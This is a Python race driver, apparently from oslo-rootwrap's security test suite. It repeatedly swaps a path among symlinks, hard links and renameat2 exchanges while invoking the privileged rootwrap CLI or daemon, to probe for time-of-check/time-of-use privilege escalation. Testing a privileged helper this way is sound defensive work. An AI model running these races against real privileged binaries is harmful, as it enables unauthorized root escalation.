"""Race driver, run as the unprivileged user by oslo-rootwrap/tests/attacks.rs.

usage: race.py MODE TARGET EVIL TRUSTED SECONDS TRIES cli BINARY CONF ARG...
       race.py MODE TARGET EVIL TRUSTED SECONDS TRIES daemon BINARY CONF ARG...

Forks a racer that flips TARGET as fast as it can (MODE below), then,
until TRIES attempts or SECONDS have passed, runs `BINARY CONF ARG...`
(cli) or starts the daemon `BINARY CONF` with the real
`oslo_rootwrap.client.Client` and executes ARG... through it (daemon).
Prints one JSON object: {"tries": N, "outcomes": {outcome: count},
"racer_alive": bool, "leaked_daemons": [pid...]}.

MODE (EVIL is a file or directory the user owns, TRUSTED a root-owned one):
  link     TARGET: missing <-> a hard link to EVIL
  appear   TARGET: missing <-> a symlink to EVIL
  flip     TARGET: missing <-> EVIL (renamed in and out)
  swap     TARGET: a symlink to TRUSTED <-> EVIL (renameat2 RENAME_EXCHANGE)
  dirswap  TARGET's directory: a symlink to TRUSTED (a directory) <-> a
           directory holding a hard link to EVIL under TARGET's name
           (RENAME_EXCHANGE)
"""
import ctypes
import json
import os
import signal
import subprocess
import sys
import time

AT_FDCWD = -100
RENAME_EXCHANGE = 2
libc = ctypes.CDLL(None, use_errno=True)


def exchange(a, b):
    if libc.renameat2(AT_FDCWD, a.encode(), AT_FDCWD, b.encode(), RENAME_EXCHANGE):
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err), a)


def quietly(f, *args):
    try:
        f(*args)
    except OSError:
        pass


def set_up(mode, target, evil, trusted):
    """Everything that may fail, done before the racer forks (so a failure
    is reported instead of a racer that silently does nothing)."""
    if mode == "swap":
        os.symlink(trusted, target)
        exchange(target, evil)
        exchange(target, evil)
    elif mode == "dirswap":
        d = os.path.dirname(target)
        alt = d + ".alt"
        os.symlink(trusted, d)
        os.mkdir(alt)
        os.link(evil, os.path.join(alt, os.path.basename(target)))
        exchange(d, alt)
        exchange(d, alt)
    elif mode not in ("link", "appear", "flip"):
        sys.exit("unknown mode " + mode)


def race(mode, target, evil):
    if mode == "link":
        while True:
            quietly(os.link, evil, target)
            quietly(os.unlink, target)
    elif mode == "appear":
        while True:
            quietly(os.symlink, evil, target)
            quietly(os.unlink, target)
    elif mode == "flip":
        while True:
            quietly(os.rename, evil, target)
            quietly(os.rename, target, evil)
    elif mode == "swap":
        while True:
            exchange(target, evil)
    elif mode == "dirswap":
        d = os.path.dirname(target)
        while True:
            exchange(d, d + ".alt")


def via_cli(binary, conf, args):
    r = subprocess.run(
        [binary, conf] + args,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        timeout=60,
    )
    return "exit %d" % r.returncode, None


def via_daemon(binary, conf, args):
    from oslo_rootwrap import client as client_mod

    client = client_mod.Client([binary, conf])
    try:
        rc = client.execute(args)[0]
        return "daemon started; command returned %d" % rc, None
    except Exception as exc:  # startup refused, or the call failed
        if client._initialized:
            return "daemon started; call raised %s" % type(exc).__name__, None
        proc = client._process
        if proc is None:
            return "not spawned: %s" % type(exc).__name__, None
        try:
            return "exit %d" % proc.wait(timeout=30), None
        except subprocess.TimeoutExpired:
            # It announced something the client could not use and is still
            # running as root: the test kills it.
            return "daemon started; client failed", proc.pid
    finally:
        if client._finalize is not None:
            client._finalize()


def main():
    mode, target, evil, trusted, seconds, tries, how, binary, conf = sys.argv[1:10]
    args = sys.argv[10:]
    set_up(mode, target, evil, trusted)
    racer = os.fork()
    if racer == 0:
        try:
            race(mode, target, evil)
        finally:
            os._exit(1)
    attempt = via_cli if how == "cli" else via_daemon
    outcomes = {}
    leaked = []
    n = 0
    try:
        deadline = time.monotonic() + float(seconds)
        while n < int(tries) and time.monotonic() < deadline:
            n += 1
            outcome, pid = attempt(binary, conf, args)
            outcomes[outcome] = outcomes.get(outcome, 0) + 1
            if pid is not None:
                leaked.append(pid)
    finally:
        alive = os.waitpid(racer, os.WNOHANG) == (0, 0)
        os.kill(racer, signal.SIGKILL)
        os.waitpid(racer, 0)
    print(
        json.dumps(
            {
                "tries": n,
                "outcomes": outcomes,
                "racer_alive": alive,
                "leaked_daemons": leaked,
            }
        )
    )


if __name__ == "__main__":
    main()
